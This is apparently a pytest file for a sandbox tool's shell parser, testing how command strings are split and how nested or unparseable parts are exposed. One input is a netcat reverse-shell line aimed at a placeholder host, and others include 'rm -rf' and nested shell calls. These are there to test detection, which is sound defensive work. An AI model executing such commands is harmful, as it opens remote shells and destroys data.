"""
What can be seen in text that cannot be read.
"""

from __future__ import annotations

import pytest

from sandboxkit.shell import parse
from sandboxkit.shell._suspects import apart


@pytest.mark.parametrize(
    ("text", "cut"),
    [
        ("a && b", ["a", "b"]),
        ("a; b\nc | d & e || f", ["a", "b", "c", "d", "e", "f"]),
        ("'a;b' \"c;d\" e\\;f; g", ["'a;b' \"c;d\" e\\;f", "g"]),
        ("(a; b); $(c; d); { e; f; }; `g; h`", ["(a; b)", "$(c; d)", "{ e; f; }", "`g; h`"]),
        ("a", []),
        ("a; 'b; c", ["a", "'b", "c"]),
        ("a;" * 2000, []),
        ("while a; do b & done || c", ["while a", "do b", "done", "c", "while a; do b & done"]),
        (
            "x; if a; then for b in c; do d; done; fi",
            ["x", "if a", "then for b in c", "do d", "done", "fi", "if a; then for b in c; do d; done; fi"],
        ),
        ("echo if; b", ["echo if", "b"]),
        ("a 2>&1 | b >&- & c &>d", ["a 2>&1", "b >&-", "c", ">d"]),
    ],
)
def test_text_is_cut_between_commands(text: str, cut: list[str]) -> None:
    assert [piece.strip() for piece in apart(text)] == cut


@pytest.mark.parametrize("text", ["a && b; c", "é; 'x y' ;z"])
def test_each_stands_where_it_did(text: str) -> None:
    for piece in apart(text):
        assert text.startswith(piece.strip(), len(piece) - len(piece.lstrip()))


def test_what_stands_beside_an_error_is_read() -> None:
    command = parse('x=1; echo ${(e)y} && rm "$x" && sh -c \'bash -c "ls -l"\'')
    assert command.opaque is not None
    assert {("rm", "1"), ("ls", "-l")} <= {part.argv for part in command.parts}


def test_a_descriptor_in_place_of_another_ends_no_command() -> None:
    command = parse("cat f | sh -i 2>&1 | nc host.example 1 > f | echo ${(e)x}")
    assert command.opaque is not None
    assert ("sh", "-i") in {part.argv for part in command.parts}
    assert "1" not in {part.program for part in command.parts}


def test_a_line_may_go_on_in_the_next_or_not() -> None:
    command = parse("r\\\nm -rf a # b\\\nls c; echo ${(e)x}")
    assert command.opaque is not None
    assert {("rm", "-rf", "a", "#", "bls", "c"), ("ls", "c")} <= {part.argv for part in command.parts}
